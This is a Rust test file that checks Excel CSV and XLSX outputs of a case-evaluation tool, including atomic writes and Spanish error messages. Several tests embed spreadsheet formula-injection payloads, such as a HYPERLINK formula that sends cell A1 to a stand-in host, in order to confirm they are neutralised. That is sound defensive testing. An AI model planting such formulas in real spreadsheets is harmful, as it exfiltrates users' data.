//! Integration tests of the outputs people open in Excel (issue 15): `evaluate --format
//! csv-excel` and `--format xlsx`, the rejected-rows file, formula neutralisation (OWASP) with
//! the machine CSV kept byte-faithful, publishable and reproducible workbooks, and outputs that
//! survive a killed run or a full disk. The real binary on the committed fixture export.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use crate::common;
use crate::common::aranda as fixture;
use crate::common::run::Pauta;

use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::Stdio;

use calamine::{Data, Reader, Xlsx, open_workbook};

const AS_OF: &str = "2026-08-01 00:00:00";

/// Case ids that Excel would run as formulas, as they stand in the hostile export.
const HOSTILE_IDS: [(&str, &str); 3] = [
    ("2001", "=HYPERLINK(\"http://x.example/?\"&A1,\"ver\")"),
    ("2002", "+573001234567"),
    ("2003", "@SUM(1+1)"),
];

fn scratch(name: &str) -> PathBuf {
    common::scratch("excel_outputs", name)
}

/// `pauta evaluate` with the pinned policies on `cases` and `history`.
fn evaluate(cases: &Path, history: &Path) -> Pauta {
    Pauta::new(["evaluate"])
        .pinned()
        .arg("--cases")
        .arg(cases)
        .arg("--history")
        .arg(history)
        .args(["--as-of", AS_OF])
}

/// The `basica` fixture with three case ids replaced by formula-like ones (in both files), and
/// one history row broken so that a hostile id also reaches the rejected-rows file.
fn hostile_export(folder: &Path) -> (PathBuf, PathBuf) {
    let quote = |id: &str| format!("\"{}\"", id.replace('"', "\"\""));
    let mut cases = std::fs::read_to_string(fixture("basica/casos.csv")).unwrap();
    let mut history = std::fs::read_to_string(fixture("basica/historial.csv")).unwrap();
    for (plain, hostile) in HOSTILE_IDS {
        let from = format!("\n{plain},");
        let to = format!("\n{},", quote(hostile));
        cases = cases.replace(&from, &to);
        history = history.replace(&from, &to);
    }
    history.push_str(&format!(
        "{},no es una fecha,En proceso,Solucionado,x\n",
        quote("=1+2")
    ));
    let (cases_path, history_path) = (folder.join("casos.csv"), folder.join("historial.csv"));
    std::fs::write(&cases_path, cases).unwrap();
    std::fs::write(&history_path, history).unwrap();
    (cases_path, history_path)
}

fn cells(path: &Path, sheet: &str) -> Vec<Vec<Data>> {
    let mut workbook: Xlsx<_> = open_workbook(path).unwrap();
    let range = workbook.worksheet_range(sheet).unwrap();
    range.rows().map(<[Data]>::to_vec).collect()
}

fn zip_part(path: &Path, part: &str) -> String {
    let file = std::fs::File::open(path).unwrap();
    let mut archive = zip::ZipArchive::new(file).unwrap();
    let mut text = String::new();
    archive.by_name(part).unwrap().read_to_string(&mut text).unwrap();
    text
}

#[test]
fn the_csv_for_excel_opens_in_spanish_columns() {
    let output = evaluate(&fixture("basica/casos.csv"), &fixture("basica/historial.csv"))
        .args(["--format", "csv-excel"])
        .run()
        .success();
    let bytes = output.stdout_bytes;
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "no BOM");
    let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
    let mut lines = text.split("\r\n");
    assert_eq!(
        lines.next().unwrap(),
        "Caso;Categoría;Versión de la política;Excepción;Registrado;Recibido;Vence;Solucionado;\
         Horas hábiles en pausa;Resultado;Días hábiles de retraso;Hallazgos"
    );
    let rows: Vec<Vec<&str>> = lines
        .filter(|l| !l.is_empty())
        .map(|l| l.split(';').collect())
        .collect();
    assert_eq!(rows.len(), 26);
    let first = &rows[0];
    assert_eq!(first[0], "2001");
    assert_eq!(first[4], "2024-03-05 10:00:00", "local date-time");
    assert!(first[8].contains(','), "decimal comma: {}", first[8]);
    let outcomes: Vec<&str> = rows.iter().map(|r| r[9]).collect();
    for outcome in &outcomes {
        assert!(
            ["cumple", "incumple", "en curso", "vencido", "anulado"].contains(outcome),
            "{outcome}"
        );
    }
    assert!(!text.contains("met") && !text.contains("breached"));
    assert!(text.contains("H0"), "findings in words with their code");
}

/// Reproduction (issue 15): a case id such as `=HYPERLINK(…)` was written as is into the
/// evaluation CSV, where Excel runs it. The Excel-facing outputs neutralise it; the machine CSV
/// keeps it byte-faithful.
#[test]
fn formula_like_values_are_neutralised_only_where_excel_reads_them() {
    let folder = scratch("formulas");
    let (cases, history) = hostile_export(&folder);

    let machine = evaluate(&cases, &history)
        .arg("--rejected")
        .arg(folder.join("rechazadas-maquina.csv"))
        .run();
    let machine = String::from_utf8(machine.stdout_bytes).unwrap();
    for (_, hostile) in HOSTILE_IDS {
        let quoted = format!("\"{}\"", hostile.replace('"', "\"\""));
        assert!(
            machine.contains(&format!("\n{quoted},")) || machine.contains(&format!("\n{hostile},")),
            "the machine CSV keeps {hostile}"
        );
    }

    let rejected = folder.join("rechazadas.csv");
    let excel = evaluate(&cases, &history)
        .args(["--format", "csv-excel", "--rejected"])
        .arg(&rejected)
        .run();
    assert_eq!(excel.code, 1, "one history row is rejected");
    let excel = String::from_utf8(excel.stdout_bytes[3..].to_vec()).unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(excel.as_bytes());
    let ids: Vec<String> = reader.records().map(|r| r.unwrap()[0].to_string()).collect();
    for (_, hostile) in HOSTILE_IDS {
        assert!(ids.contains(&format!("'{hostile}")), "{hostile} in {ids:?}");
    }
    assert!(ids.iter().all(|id| !id.starts_with(['=', '+', '-', '@'])));

    let rejected = std::fs::read(&rejected).unwrap();
    assert!(rejected.starts_with(b"\xEF\xBB\xBF"));
    let rejected = String::from_utf8(rejected[3..].to_vec()).unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(rejected.as_bytes());
    let headers = reader.headers().unwrap().clone();
    assert_eq!(
        headers.iter().collect::<Vec<_>>(),
        ["archivo", "línea", "caso", "código", "motivo", "fila"]
    );
    let record = reader.records().next().unwrap().unwrap();
    assert_eq!(&record[2], "'=1+2");
    assert!(record[5].starts_with("'=1+2,"), "{}", &record[5]);

    let workbook = folder.join("evaluacion.xlsx");
    evaluate(&cases, &history)
        .arg("--output")
        .arg(&workbook)
        .arg("--rejected")
        .arg(folder.join("rechazadas-2.csv"))
        .run()
        .failure(1);
    let rows = cells(&workbook, "Evaluación");
    for (_, hostile) in HOSTILE_IDS {
        assert!(
            rows.iter().any(|row| row[0] == Data::String(hostile.to_string())),
            "{hostile} kept exactly as text"
        );
    }
    let rejected = cells(&workbook, "Rechazadas");
    assert_eq!(rejected[1][2], Data::String("=1+2".into()));
    // Written as text with Excel's quote prefix: Excel shows it and never runs it.
    assert!(zip_part(&workbook, "xl/styles.xml").contains("quotePrefix=\"1\""));
    let sheet = zip_part(&workbook, "xl/worksheets/sheet2.xml");
    assert!(!sheet.contains("<f>"), "no formula in the evaluation sheet");
}

#[test]
fn the_workbook_has_typed_cells_spanish_titles_and_every_row() {
    let folder = scratch("workbook");
    let workbook = folder.join("salida.xlsx");
    evaluate(&fixture("basica/casos.csv"), &fixture("basica/historial.csv"))
        .arg("--output")
        .arg(&workbook)
        .run()
        .success();
    let book: Xlsx<_> = open_workbook(&workbook).unwrap();
    assert_eq!(
        book.sheet_names(),
        ["Resumen", "Evaluación", "Rechazadas"],
        "the format comes from the extension"
    );
    let rows = cells(&workbook, "Evaluación");
    assert_eq!(rows.len(), 27, "header and 26 cases");
    assert_eq!(rows[0][0], Data::String("Caso".into()));
    assert_eq!(rows[0][9], Data::String("Resultado".into()));
    assert_eq!(rows[1][0], Data::String("2001".into()));
    assert_eq!(rows[1][2], Data::Float(11.0), "version is a number");
    assert!(
        matches!(rows[1][4], Data::DateTime(_)),
        "registration is a date: {:?}",
        rows[1][4]
    );
    assert!(matches!(rows[1][8], Data::Float(_)), "paused hours are a number");
    assert!(matches!(rows[1][10], Data::Float(_)), "days late are a number");
    let sheet = zip_part(&workbook, "xl/worksheets/sheet2.xml");
    assert!(sheet.contains("<pane ") && sheet.contains("state=\"frozen\""));
    assert!(sheet.contains("<autoFilter "));
    let summary = cells(&workbook, "Resumen");
    let text: Vec<String> = summary.iter().map(|r| r[0].to_string()).collect();
    assert!(
        text.iter()
            .any(|l| l == "casos:     leídas 26 = evaluadas 26 + rechazadas 0"),
        "{text:?}"
    );
}

/// Two runs give the same bytes, and `pauta document check` accepts the workbook: title and
/// language set, no application, version or dates.
#[test]
fn the_workbook_is_reproducible_and_passes_the_document_check() {
    let folder = scratch("reproducible");
    let mut outputs = Vec::new();
    for name in ["a.xlsx", "b.xlsx"] {
        let path = folder.join(name);
        evaluate(&fixture("basica/casos.csv"), &fixture("basica/historial.csv"))
            .arg("--output")
            .arg(&path)
            .run()
            .success();
        outputs.push(std::fs::read(&path).unwrap());
        std::thread::sleep(std::time::Duration::from_millis(1100));
    }
    assert!(outputs[0] == outputs[1], "the two workbooks differ");
    let core = zip_part(&folder.join("a.xlsx"), "docProps/core.xml");
    assert!(core.contains("<dc:language>es-CO</dc:language>"), "{core}");
    assert!(core.contains("<dc:title>Evaluación de ANS de casos.csv</dc:title>"));
    let check = Pauta::new(["document", "check"])
        .pinned()
        .arg(folder.join("a.xlsx"))
        .run()
        .success();
    let stdout = check.stdout;
    assert!(stdout.contains("(0 error(es), 0 aviso(s))"), "{stdout}");
}

/// A run killed while writing leaves yesterday's file byte-identical; its partial file is
/// removed by the next run that writes the same output.
#[cfg(unix)]
#[test]
fn a_killed_run_leaves_the_previous_output_intact() {
    let folder = scratch("killed");
    Pauta::new(["generate", "--cases", "150000", "--seed", "15", "--out"])
        .arg(folder.join("export"))
        .run()
        .success();
    let previous = folder.join("prev.csv");
    std::fs::write(&previous, "resultado de ayer\n").unwrap();
    // A raw process: this test kills it while it writes.
    let mut child = std::process::Command::new(common::run::binary())
        .arg("evaluate")
        .arg("--cases")
        .arg(folder.join("export/casos.csv"))
        .arg("--history")
        .arg(folder.join("export/historial.csv"))
        .arg("--output")
        .arg(&previous)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let partial = folder.join(format!(".prev.csv.pauta-parcial-{}", child.id()));
    // Wait until the new output is being written, then kill the run.
    loop {
        if std::fs::metadata(&partial).is_ok_and(|m| m.len() > 0) {
            break;
        }
        assert!(
            child.try_wait().unwrap().is_none(),
            "the run ended before it could be killed: raise --cases"
        );
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    child.kill().unwrap();
    child.wait().unwrap();
    assert_eq!(std::fs::read_to_string(&previous).unwrap(), "resultado de ayer\n");
    assert!(partial.exists(), "a killed process cannot clean up");

    evaluate(&fixture("basica/casos.csv"), &fixture("basica/historial.csv"))
        .arg("--output")
        .arg(&previous)
        .run()
        .success();
    assert!(!partial.exists(), "the abandoned partial file is removed");
    assert!(
        std::fs::read_to_string(&previous)
            .unwrap()
            .starts_with("case_id,")
    );
}

/// A full disk, simulated by a file-size limit (`ulimit -f`), fails the run with a Spanish
/// message and leaves yesterday's file byte-identical, with no partial file behind.
#[cfg(unix)]
#[test]
fn a_full_disk_leaves_the_previous_output_intact() {
    use std::os::unix::process::CommandExt;

    let folder = scratch("full_disk");
    let previous = folder.join("prev.xlsx");
    std::fs::write(&previous, "libro de ayer\n").unwrap();
    // A raw process: the file-size limit is set between fork and exec.
    let mut command = std::process::Command::new(common::run::binary());
    command
        .arg("evaluate")
        .arg("--policies")
        .arg(common::pinned_dir())
        .arg("--cases")
        .arg(fixture("basica/casos.csv"))
        .arg("--history")
        .arg(fixture("basica/historial.csv"))
        .arg("--output")
        .arg(&previous);
    // SAFETY: only async-signal-safe calls between fork and exec.
    unsafe {
        command.pre_exec(|| {
            let limit = libc::rlimit {
                rlim_cur: 2048,
                rlim_max: 2048,
            };
            libc::signal(libc::SIGXFSZ, libc::SIG_IGN);
            if libc::setrlimit(libc::RLIMIT_FSIZE, &limit) != 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let output = command.output().unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("error"), "{stderr}");
    assert!(
        !stderr.contains("os error"),
        "the reason is told in Spanish: {stderr}"
    );
    assert_eq!(std::fs::read_to_string(&previous).unwrap(), "libro de ayer\n");
    let names: Vec<String> = std::fs::read_dir(&folder)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(names, ["prev.xlsx"], "partial files left behind");
}

/// An output folder that does not exist is told in Spanish before any work is done.
#[test]
fn an_output_in_a_missing_folder_is_told_in_spanish() {
    let folder = scratch("missing_folder");
    let output = evaluate(&fixture("basica/casos.csv"), &fixture("basica/historial.csv"))
        .arg("--output")
        .arg(folder.join("no/existe/salida.csv"))
        .run()
        .failure(2);
    let stderr = output.stderr;
    assert!(stderr.contains("no se pudo crear"), "{stderr}");
    assert!(stderr.contains("no existe"), "{stderr}");
    assert!(!stderr.contains("os error"), "{stderr}");
}

/// The SMS errors file is opened in Excel: a value from the list that starts like a formula is
/// neutralised there, while the corrected list (the one that is sent) keeps its values.
#[test]
fn the_sms_errors_file_neutralises_formula_like_values() {
    let folder = scratch("sms");
    let list = folder.join("lista.csv");
    std::fs::write(
        &list,
        "Nombre;Apellido;Número de cédula;Mensaje\r\n\
         \"=HYPERLINK(\"\"http://x\"\";\"\"ver\"\")\";Díaz;abc;Hola\r\n\
         Marta;Ruiz;43123456;Marta, recuerde actualizar sus datos\r\n",
    )
    .unwrap();
    let fixed = folder.join("corregida.csv");
    Pauta::new(["sms", "check"])
        .pinned()
        .arg(&list)
        .arg("--fix")
        .arg(&fixed)
        .run()
        .failure(1);
    let errors = std::fs::read_to_string(folder.join("corregida.errores.csv")).unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(errors.as_bytes());
    let row = reader.records().next().unwrap().unwrap();
    assert_eq!(&row[1], "'=HYPERLINK(\"http://x\";\"ver\")", "{errors}");
    let fixed = std::fs::read_to_string(&fixed).unwrap();
    assert!(fixed.contains("\r\nMarta;Ruiz;43123456;"), "{fixed}");
}

/// Reproduction: `--output` naming something that is not a regular file was replaced by a plain
/// file (renamed over it) — `--output /dev/null` turned the system's null device into a file.
/// A pipe is now written directly and stays a pipe; a symbolic link stays a link, and the file
/// it points to gets the new content.
#[cfg(unix)]
#[test]
fn outputs_that_are_pipes_or_links_stay_what_they_are() {
    use std::os::unix::fs::FileTypeExt;

    let folder = scratch("special");
    let fifo = folder.join("tubo");
    let path = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
    // SAFETY: a valid NUL-terminated path and a mode.
    assert_eq!(unsafe { libc::mkfifo(path.as_ptr(), 0o600) }, 0);
    let reader = {
        let fifo = fifo.clone();
        std::thread::spawn(move || std::fs::read_to_string(fifo).unwrap())
    };
    evaluate(&fixture("basica/casos.csv"), &fixture("basica/historial.csv"))
        .arg("--output")
        .arg(&fifo)
        .run()
        .success();
    // Checked before joining: a pipe replaced by a file would leave the reader waiting forever.
    assert!(
        std::fs::metadata(&fifo).unwrap().file_type().is_fifo(),
        "still a pipe"
    );
    let read = reader.join().unwrap();
    assert!(read.starts_with("case_id,"), "{read}");
    assert_eq!(read.lines().count(), 27);

    let real = folder.join("real.csv");
    std::fs::write(&real, "ayer\n").unwrap();
    let link = folder.join("enlace.csv");
    std::os::unix::fs::symlink(&real, &link).unwrap();
    evaluate(&fixture("basica/casos.csv"), &fixture("basica/historial.csv"))
        .arg("--output")
        .arg(&link)
        .run()
        .success();
    assert!(
        std::fs::symlink_metadata(&link).unwrap().file_type().is_symlink(),
        "still a link"
    );
    assert!(std::fs::read_to_string(&real).unwrap().starts_with("case_id,"));
}
